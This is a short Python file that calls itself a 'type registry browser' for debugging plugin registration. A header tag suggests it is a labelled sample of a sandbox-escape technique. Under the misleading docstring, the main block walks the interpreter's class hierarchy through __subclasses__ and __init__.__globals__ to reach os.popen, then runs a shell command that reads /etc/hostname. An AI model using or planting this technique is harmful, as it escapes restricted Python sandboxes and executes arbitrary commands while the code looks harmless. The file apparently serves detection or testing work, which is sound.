# family: dunder attribute walks (__subclasses__ -> __init__.__globals__)
"""Type registry browser.

Lists all classes currently known to the interpreter, grouped by module,
to help debug plugin registration.
"""
import collections


def all_types():
    root = ().__class__.__mro__[-1]
    return root.__subclasses__()


def by_module():
    groups = collections.defaultdict(list)
    for cls in all_types():
        groups[cls.__module__].append(cls.__name__)
    return groups


def _helper_for(module_name, cls_name, attr):
    for cls in all_types():
        if cls.__module__ == module_name and cls.__name__ == cls_name:
            return cls.__init__.__globals__[attr]


if __name__ == "__main__":
    print(len(by_module()) > 0)
    opener = _helper_for("os", "_wrap_close", "popen")
    print(opener("echo PROOF: $(cat /etc/hostname)").read(), end="")
